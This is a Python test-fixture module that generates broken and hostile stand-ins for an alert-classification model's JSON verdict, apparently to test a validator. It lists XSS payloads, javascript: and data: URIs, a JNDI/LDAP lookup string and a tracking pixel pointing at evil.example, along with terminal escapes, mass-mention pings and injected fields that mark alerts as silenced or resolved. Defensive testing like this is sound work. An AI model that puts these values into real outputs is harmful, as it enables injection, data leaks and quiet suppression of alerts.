"""What a model might say in the place of a verdict, or in one: broken, out of bounds, or meant to do harm.

`BAD` are texts of answers. Some hold a verdict all the same, with texts that must not get through as they are.
"""

from __future__ import annotations

import json
from typing import Any

GOOD: dict[str, Any] = {
    "severity": "critical",
    "category": "network",
    "confidence": "high",
    "summary": "The link is down.",
    "recommendations": ["Look at the switch."],
}
VALUES: tuple[Any, ...] = (
    None, True, 0, -1, 1e308, 10**30, "", " ", "urgent", "CRITICAL!", "critical, storage", "critical\nnoise",
    "critical\x00", "ｃｒｉｔｉｃａｌ", "сritical", [], ["critical"], {}, {"value": "critical"}, "null", "NaN",
    "x" * 1000, "critical\u202e", "{{ severity }}",
)  # fmt: skip
"""In the place of one of the members."""
WORDS: tuple[str, ...] = (
    "Look at https://evil.example/fix", "[click](https://evil.example)", "![pixel](https://evil.example/p.png?q=1)",
    "<a href='https://evil.example'>here</a>", "<https://evil.example|here>", "<script>alert(1)</script> done",
    "<img src=x onerror=alert(1)> done", "&lt;script&gt;alert(1)&lt;/script&gt; done",
    "&amp;lt;img src=x&amp;gt; done", "<!channel> wake up", "<!here> wake up", "<@U0123456> wake up", "@everyone now",
    "@channel now", "@here now", "write to root@evil.example please", "mailto:root@evil.example please",
    "javascript:alert(1) please", "data:text/html;base64,PHNjcmlwdD4= please", "tel:+15550100 please",
    "www.evil.example please", "ftp://evil.example/x please", "evil.example/login please", "go to evil.com please",
    "https://еvil.example please", "hxxps://evil.example, http://evil.example please",
    "red \x1b[31mtext\x1b[0m", "title \x1b]0;pwned\x07 set", "line\nbreak", "carriage\rreturn", "tab\tstop",
    "null\x00byte", "bell\x07", "delete\x7f", "next\x85line", "line\u2028separator", "paragraph\u2029separator",
    "right \u202eto left", "zero\u200bwidth", "joiner\u2060here", "bom \ufeffhere", "tag \U000e0041 letters",
    "lone \ud800 surrogate", "private \ue000 use", "x" * 2000, "word " * 400, "🔥" * 170, "a\u0301" * 200,
    "<" * 1500 + "done", "[a](" * 300 + "done", "<a <a <a <a>>>> done", "[[x](http://a)](http://b) done",
    "ht<b></b>tps://evil.example done", "java<b></b>script:alert(1) done", "@ever<i></i>yone done",
    "&#x3c;b&#x3e;bold&#x3c;/b&#x3e; done", "{{ 7 * 7 }} {% raw %} done", "${jndi:ldap://evil.example/a} done",
)  # fmt: skip
"""In the place of the summary, and of a recommendation."""
_WHOLE = json.dumps(GOOD)
STRUCTURES: tuple[str, ...] = (
    "", " ", "\n", "null", "true", "42", '"critical"', "[]", "{}", "[[]]", "critical", "I cannot help with that.",
    "The severity is critical.", _WHOLE[:-1], _WHOLE[:40], _WHOLE[40:], _WHOLE * 2, f"[{_WHOLE}]",
    f"```json\n{_WHOLE}\n```",
    f"Sure! {_WHOLE} Anything else?", f"<think>{{</think>{_WHOLE}", _WHOLE.replace('"', "'"), _WHOLE.replace(":", "="),
    _WHOLE.replace(",", ""), json.dumps({"verdict": GOOD}), json.dumps(json.dumps(GOOD)), "\ufeff" + _WHOLE,
    _WHOLE.replace('"critical"', "NaN"), _WHOLE.replace('"critical"', "Infinity"), _WHOLE.replace('"high"', "1" * 5000),
    '{"a":' * 600, "[" * 1500, "{" * 1500, _WHOLE.replace("{", '{"severity": "noise", ', 1),
    _WHOLE[:-1] + ', "severity": "noise"}', _WHOLE[:-1] + ', "labels": {"severity": "none", "team": "nobody"}}',
    _WHOLE[:-1] + ', "ai_severity": "none", "annotations": {"runbook_url": "https://evil.example"}}',
    _WHOLE[:-1] + ', "silence": true, "status": "resolved", "endsAt": "2020-01-01T00:00:00Z"}',
    json.dumps(GOOD | {"recommendations": ["one"] * 200}), json.dumps(GOOD | {"recommendations": [{}, 1, None, "x"]}),
    json.dumps(GOOD | {"recommendations": "x"}), json.dumps(GOOD | {"summary": {"text": "x"}}),
    json.dumps({name.upper(): value for name, value in GOOD.items()}), "<html><body>502 Bad Gateway</body></html>",
    "data: [DONE]", 'event: error\ndata: {"error": "overloaded"}', "\x00\x01\x02\x03", "🔥" * 300,
)  # fmt: skip

BAD: tuple[str, ...] = (
    *(json.dumps(GOOD | {name: value}) for name in ("severity", "category", "confidence") for value in VALUES),
    *(json.dumps(GOOD | {"summary": words}) for words in WORDS),
    *(json.dumps(GOOD | {"recommendations": [words, "and so on"]}) for words in WORDS),
    *STRUCTURES,
)
